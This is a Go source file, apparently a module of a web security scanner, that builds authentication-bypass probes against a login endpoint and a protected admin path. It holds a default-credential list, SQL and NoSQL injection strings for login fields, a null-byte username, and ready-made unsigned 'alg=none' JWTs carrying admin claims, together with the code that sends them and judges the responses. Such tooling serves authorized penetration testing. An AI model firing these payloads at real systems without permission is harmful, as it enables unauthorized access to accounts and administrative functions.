package attacks

import (
	"encoding/json"
	"fmt"

	"github.com/fenrir-sec/fenrir/pkg/analysis"
	"github.com/fenrir-sec/fenrir/pkg/fuzzer"
	"github.com/fenrir-sec/fenrir/pkg/payloads"
	"github.com/fenrir-sec/fenrir/pkg/vuln"
)

// credential is one username/password pair posted to the login endpoint.
type credential struct {
	Username string `json:"username"`
	Password string `json:"password"`
}

// commonCredentials covers default and weak account/password pairs.
var commonCredentials = []credential{
	{"admin", "admin"},
	{"admin", "password"},
	{"admin", "123456"},
	{"root", "root"},
	{"root", "toor"},
	{"administrator", "administrator"},
	{"user", "user"},
	{"test", "test"},
	{"guest", "guest"},
	{"admin", ""},
	{"", ""},
}

// injectionCredentials attack the credential check itself.
var injectionCredentials = []credential{
	{"admin'--", "x"},
	{"admin' OR '1'='1", "x"},
	{"' OR 1=1 --", "' OR 1=1 --"},
	{`{"$ne": null}`, `{"$ne": null}`},
	{"admin\x00", "password"},
}

// forgedTokens are pre-built JWTs with the alg=none downgrade: header
// {"typ":"JWT","alg":"none"} and an admin claim set, no signature.
var forgedTokens = []string{
	"eyJ0eXAiOiJKV1QiLCJhbGciOiJub25lIn0.eyJ1c2VyIjoiYWRtaW4ifQ.",
	"eyJ0eXAiOiJKV1QiLCJhbGciOiJub25lIn0.eyJ1c2VyIjoiYWRtaW4iLCJyb2xlIjoiYWRtaW4ifQ.",
	"eyJ0eXAiOiJKV1QiLCJhbGciOiJub25lIn0.eyJzdWIiOiIxIiwiYWRtaW4iOnRydWV9.",
}

// AuthBypass drives credential grids, credential-field injection, and
// forged-token probes against a login endpoint.
type AuthBypass struct {
	loginPath     string
	protectedPath string
}

// NewAuthBypass targets loginPath for credential posts and protectedPath
// for token probes. Defaults: /login and /admin.
func NewAuthBypass(loginPath, protectedPath string) *AuthBypass {
	if loginPath == "" {
		loginPath = "/login"
	}
	if protectedPath == "" {
		protectedPath = "/admin"
	}
	return &AuthBypass{loginPath: loginPath, protectedPath: protectedPath}
}

func (a *AuthBypass) Name() string { return "authbypass" }

func (a *AuthBypass) Probes() []fuzzer.Probe {
	var probes []fuzzer.Probe

	creds := make([]credential, 0, len(commonCredentials)+len(injectionCredentials)+3)
	creds = append(creds, commonCredentials...)
	creds = append(creds, injectionCredentials...)
	for _, n := range []int{8, 16, 32} {
		creds = append(creds, credential{payloads.FuzzedUsername(n), payloads.LongString(n)})
	}

	for _, c := range creds {
		body, err := json.Marshal(c)
		if err != nil {
			continue
		}
		probes = append(probes, fuzzer.Probe{
			Method:      "POST",
			Path:        a.loginPath,
			Payload:     c.Username,
			Body:        body,
			ContentType: "application/json",
		})
	}

	for _, token := range forgedTokens {
		probes = append(probes, fuzzer.Probe{
			Method:  "GET",
			Path:    a.protectedPath,
			Payload: token,
			Headers: map[string]string{"Authorization": "Bearer " + token},
		})
	}
	return probes
}

func (a *AuthBypass) Analyze(resp *analysis.Response, probe fuzzer.Probe) (bool, vuln.Kind) {
	var c credential
	if len(probe.Body) > 0 {
		if err := json.Unmarshal(probe.Body, &c); err != nil {
			c.Username = probe.Payload
		}
	}
	return analysis.ClassifyAuthBypass(resp, analysis.AuthProbe{
		Username: c.Username,
		Password: c.Password,
	})
}

// ForgedToken renders a JWT-shaped token string for ad-hoc probes built
// outside the standard grid.
func ForgedToken(claims string) string {
	return fmt.Sprintf("eyJ0eXAiOiJKV1QiLCJhbGciOiJub25lIn0.%s.", claims)
}
